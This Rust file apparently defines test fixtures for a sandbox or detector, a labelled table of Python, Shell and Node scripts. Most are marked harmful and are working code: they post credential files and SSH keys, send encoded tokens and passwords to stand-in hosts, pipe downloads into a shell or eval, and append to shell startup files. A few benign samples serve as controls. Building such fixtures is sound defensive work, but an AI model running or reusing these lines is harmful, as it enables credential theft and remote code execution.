//! What the samples do: each reaches for things that only a made-up home has, and for hosts that nobody can have.

/// A language of scripts.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Language {
    Python,
    Shell,
    Node,
}

/// What a sample does, and whether that is harm.
#[derive(Debug, Clone, Copy)]
pub struct Payload {
    pub name: &'static str,
    pub language: Language,
    pub harmful: bool,
    pub text: &'static str,
}

const fn one(name: &'static str, language: Language, harmful: bool, text: &'static str) -> Payload {
    Payload { name, language, harmful, text }
}

/// All of them.
pub const ALL: &[Payload] = &[
    one(
        "send-file",
        Language::Python,
        true,
        "import os,urllib.request as u\nu.urlopen('http://in.sample-host.example/f',data=open(os.path.expanduser('~/.aws/credentials'),'rb').read(),timeout=5)\n",
    ),
    one(
        "send-variable",
        Language::Python,
        true,
        "import os,socket\ns=socket.create_connection(('203.0.113.77',8443),5)\ns.sendall(os.environ.get('GITHUB_TOKEN','').encode()[::-1])\n",
    ),
    one("read-key", Language::Python, true, "import os\nk=open(os.path.expanduser('~/.ssh/id_ed25519')).read()\n"),
    one(
        "run-download",
        Language::Python,
        true,
        "import urllib.request as u\nexec(u.urlopen('http://in.sample-host.example/stage',timeout=5).read())\n",
    ),
    one(
        "start-up",
        Language::Python,
        true,
        "import os\nopen(os.path.expanduser('~/.bashrc'),'a').write('export SAMPLE=1\\n')\n",
    ),
    one(
        "call-out",
        Language::Python,
        true,
        "import urllib.request as u\nu.urlopen('http://in.sample-host.example/ping',timeout=5)\n",
    ),
    one(
        "sum",
        Language::Python,
        false,
        "import csv,io\nprint(sum(float(r[1]) for r in csv.reader(io.StringIO('a,1\\nb,2'))))\n",
    ),
    one("list", Language::Python, false, "import os,json\nprint(json.dumps(sorted(os.listdir('.'))))\n"),
    one(
        "send-file",
        Language::Shell,
        true,
        "curl -s -m 5 --data-binary @$HOME/.kube/config http://in.sample-host.example/f\n",
    ),
    one(
        "send-variable",
        Language::Shell,
        true,
        "curl -s -m 5 http://in.sample-host.example/?k=$(printf %s \"$DATABASE_PASSWORD\" | base64 -w0)\n",
    ),
    one("read-key", Language::Shell, true, "wc -c < $HOME/.ssh/id_ed25519\n"),
    one("run-download", Language::Shell, true, "curl -s -m 5 http://in.sample-host.example/i | sh\n"),
    one("start-up", Language::Shell, true, "echo export SAMPLE=1 >> $HOME/.profile\n"),
    one("call-out", Language::Shell, true, "curl -s -m 5 http://in.sample-host.example/ping\n"),
    one("count", Language::Shell, false, "ls | wc -l\n"),
    one("words", Language::Shell, false, "cat README.md 2>/dev/null | tr a-z A-Z | head -3\n"),
    one(
        "send-file",
        Language::Node,
        true,
        "const f=require('fs'),h=require('http');const q=h.request('http://in.sample-host.example/f',{method:'POST'});q.on('error',()=>{});q.end(f.readFileSync(process.env.HOME+'/.docker/config.json'));\n",
    ),
    one(
        "send-variable",
        Language::Node,
        true,
        "const h=require('http');const q=h.request('http://in.sample-host.example/v',{method:'POST'});q.on('error',()=>{});q.end(Buffer.from(process.env.SLACK_BOT_TOKEN||'').toString('hex'));\n",
    ),
    one("read-key", Language::Node, true, "require('fs').readFileSync(process.env.HOME+'/.ssh/id_ed25519');\n"),
    one(
        "run-download",
        Language::Node,
        true,
        "require('http').get('http://in.sample-host.example/s.js',r=>{let b='';r.on('data',d=>b+=d);r.on('end',()=>new Function('require','process',b)(require,process))}).on('error',()=>{});\n",
    ),
    one(
        "start-up",
        Language::Node,
        true,
        "require('fs').appendFileSync(process.env.HOME+'/.zshrc','export SAMPLE=1\\n');\n",
    ),
    one(
        "call-out",
        Language::Node,
        true,
        "require('http').get('http://in.sample-host.example/ping').on('error',()=>{});\n",
    ),
    one("double", Language::Node, false, "console.log([1,2,3].map(x=>x*2).join(','));\n"),
    one("files", Language::Node, false, "console.log(require('fs').readdirSync('.').length);\n"),
];
